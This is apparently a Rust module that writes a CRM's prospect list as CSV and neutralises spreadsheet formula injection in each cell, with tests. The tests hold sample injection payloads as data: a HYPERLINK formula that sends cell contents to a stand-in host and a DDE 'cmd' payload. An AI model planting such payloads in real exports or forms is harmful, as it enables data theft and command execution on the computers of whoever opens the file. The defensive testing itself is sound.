//! Prospects as CSV, for `GET /prospects/export.csv` and
//! `rally export prospects`: the same columns, the same cell rules.
//!
//! A spreadsheet opening the file runs any cell that starts like a formula,
//! so a name typed as `=HYPERLINK(…)` or `+cmd|…` on a public form would
//! run on the desk of whoever opens the export. Every such cell is
//! neutralised by OWASP's rule (see [`cell`]); the import recognises the
//! guard and takes it off again ([`unguard`]), so an export imports back
//! unchanged. The file starts with a UTF-8 byte-order mark, which is how
//! Excel knows to read it as UTF-8 (names such as Zoë, Élodie, Иван).

use std::{borrow::Cow, io::Write};

use anyhow::Context;

use crate::{
    platform::{db, text::Phone, time_zones::Tz, ui::utc_datetime},
    prospects::queries::ExportExtras,
};

/// The UTF-8 byte-order mark every export starts with.
pub const BOM: &str = "\u{feff}";

pub async fn prospects(pool: &db::Pool, org_slug: &str, out: impl Write) -> anyhow::Result<usize> {
    let org = crate::organizations::queries::organization_by_slug(pool, org_slug)
        .await?
        .with_context(|| format!("no organization with slug {org_slug:?}"))?;
    let scope = db::Scope::organization(org.id);
    let rows = crate::prospects::queries::all_prospects(pool, scope).await?;
    let extras = crate::prospects::queries::export_extras(pool, scope).await?;
    // No one is looking: times in UTC.
    let viewer = Viewer {
        organization_id: org.id,
        zone: Tz::UTC,
    };
    write_csv(&rows, &extras, viewer, out)?;
    Ok(rows.len())
}

/// Who the file is for: their organization (a prospect of another one, a
/// franchise location seen from HQ, names it in `location`) and the time
/// zone `last_activity` is written in.
#[derive(Debug, Clone, Copy)]
pub struct Viewer {
    pub organization_id: i64,
    pub zone: Tz,
}

/// The export's header row, in column order.
pub const COLUMNS: [&str; 15] = [
    "id",
    "name",
    "email",
    "phone",
    "company",
    "source",
    "created_at",
    "submissions",
    "stage",
    "owner",
    "owner_email",
    "tags",
    "notes",
    "location",
    "last_activity",
];

/// A time in `zone` as ISO 8601 with its offset, to the second:
/// `2026-11-26T09:30:00+01:00`.
pub fn local_iso(ms: i64, zone: Tz) -> String {
    crate::platform::time_zones::local(ms, zone)
        .format("%Y-%m-%dT%H:%M:%S%:z")
        .to_string()
}

/// Characters that make a spreadsheet read a cell as a formula when they
/// come first (OWASP's "CSV injection" list).
const FORMULA_START: &[char] = &['=', '+', '-', '@', '\t', '\r'];

/// Whether a spreadsheet would treat `value` as a formula: it starts with
/// one of `= + - @`, a tab or a carriage return, also after leading spaces
/// or a line break (some spreadsheets skip those).
fn looks_like_formula(value: &str) -> bool {
    value.starts_with(FORMULA_START)
        || value
            .trim_start_matches([' ', '\n'])
            .starts_with(FORMULA_START)
}

/// Whether [`cell`] guards `value`: a spreadsheet would run it, or would
/// once [`unguard`] took off a quote it starts with (so `'=x` is written
/// `''=x` and comes back as `'=x`).
fn needs_guard(value: &str) -> bool {
    looks_like_formula(value.trim_start_matches('\''))
}

/// `value` as an exported cell: prefixed with a single quote when a
/// spreadsheet would run it as a formula, else unchanged.
pub fn cell(value: &str) -> Cow<'_, str> {
    if needs_guard(value) {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

/// A phone cell: a value that is a valid phone number without an extension
/// (digits, spaces and `+ - ( ) . /` only, see [`Phone`]) is data, not a
/// formula, and is written as it is, so `+1 555 0100` survives export and
/// import unchanged; any other value (an extension such as `x34` reads as
/// a cell reference) gets the rule of [`cell`], which import undoes.
pub fn phone_cell(value: &str) -> Cow<'_, str> {
    match Phone::parse(value) {
        Ok(Some(phone)) if phone.as_str() == value && Phone::split_extension(value).is_none() => {
            Cow::Borrowed(value)
        }
        _ => cell(value),
    }
}

/// The value an exported cell stood for: the single quote that [`cell`]
/// added (one followed by what would start a formula, perhaps after more
/// quotes) is taken off; any other text is unchanged. For CSV import.
pub fn unguard(value: &str) -> &str {
    match value.strip_prefix('\'') {
        Some(rest) if needs_guard(rest) => rest,
        _ => value,
    }
}

/// Prospects as CSV: a byte-order mark, a header row ([`COLUMNS`]), one
/// row per prospect (the same columns everywhere), every cell through
/// [`cell`] (the phone through [`phone_cell`]). `created_at` is UTC
/// (`2026-11-26 13:45 UTC`); `last_activity` is in the viewer's zone
/// ([`local_iso`]); `tags` are comma-separated (as import reads them);
/// `notes` counts the notes on the timeline; `location` is the prospect's
/// organization when it is not the viewer's (HQ's export), else empty;
/// `owner_email` is what the import's owner column reads back.
pub fn write_csv(
    rows: &[crate::prospects::queries::Prospect],
    extras: &ExportExtras,
    viewer: Viewer,
    mut out: impl Write,
) -> anyhow::Result<()> {
    write_csv_with(rows, extras, viewer, Separator::Comma, &mut out)
}

/// The character between a CSV's cells: a comma (RFC 4180, most tools), or
/// a semicolon, which Excel expects where the decimal mark is a comma
/// (most of Europe and Latin America); it opens a comma file as one column.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Separator {
    Comma,
    Semicolon,
}

impl Separator {
    /// `sep=semicolon` in the export's query string; anything else a comma.
    pub fn from_query(value: Option<&str>) -> Self {
        match value {
            Some("semicolon") => Self::Semicolon,
            _ => Self::Comma,
        }
    }

    fn byte(self) -> u8 {
        match self {
            Self::Comma => b',',
            Self::Semicolon => b';',
        }
    }
}

/// [`write_csv`] with the cells separated by `separator`.
pub fn write_csv_with(
    rows: &[crate::prospects::queries::Prospect],
    extras: &ExportExtras,
    viewer: Viewer,
    separator: Separator,
    mut out: impl Write,
) -> anyhow::Result<()> {
    out.write_all(BOM.as_bytes())?;
    let mut writer = csv::WriterBuilder::new()
        .delimiter(separator.byte())
        .from_writer(out);
    writer.write_record(COLUMNS)?;
    for p in rows {
        let id = p.id.to_string();
        let created = utc_datetime(p.created_at);
        let submissions = p.submissions.to_string();
        // The domain in Unicode; import reads it back to the same key.
        let email = crate::platform::text::display_email(&p.email);
        let tags = extras
            .tags
            .get(&p.id)
            .map(|t| t.join(", "))
            .unwrap_or_default();
        let notes = extras.notes.get(&p.id).copied().unwrap_or(0).to_string();
        let location = if p.organization_id == viewer.organization_id {
            ""
        } else {
            p.location_name.as_str()
        };
        let last_activity = local_iso(p.last_activity_at, viewer.zone);
        let owner_email = p
            .owner_email
            .as_deref()
            .map(crate::platform::text::display_email)
            .unwrap_or_default();
        let cells = [
            cell(&id),
            cell(&p.name),
            cell(&email),
            phone_cell(p.phone.as_deref().unwrap_or_default()),
            cell(p.company.as_deref().unwrap_or_default()),
            cell(&p.source),
            cell(&created),
            cell(&submissions),
            cell(p.stage.as_str()),
            cell(p.owner_name.as_deref().unwrap_or_default()),
            cell(&owner_email),
            cell(&tags),
            cell(&notes),
            cell(location),
            cell(&last_activity),
        ];
        writer.write_record(cells.iter().map(|c| c.as_bytes()))?;
    }
    writer.flush()?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_come_back() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?x=\"&C2,\"Click\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "  =1",
        ] {
            let guarded = cell(formula);
            assert!(guarded.starts_with('\''), "{formula:?} left as {guarded:?}");
            assert_eq!(unguard(&guarded), formula);
        }
        // Text that already looks guarded keeps its own quote.
        assert_eq!(unguard(&cell("'=x")), "'=x");
        for plain in ["Ana Lima", "Zoë", "'quoted'", "a=b", ""] {
            assert_eq!(cell(plain), plain);
            assert_eq!(unguard(plain), plain);
        }
    }

    #[test]
    fn phone_numbers_are_data() {
        for phone in [
            "+1 555 0100",
            "-555-0100 12",
            "(555) 010-9999",
            "+44 20 7946 0000",
        ] {
            assert_eq!(phone_cell(phone), phone);
        }
        assert_eq!(phone_cell("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
        assert_eq!(phone_cell("=1+2"), "'=1+2");
    }
}
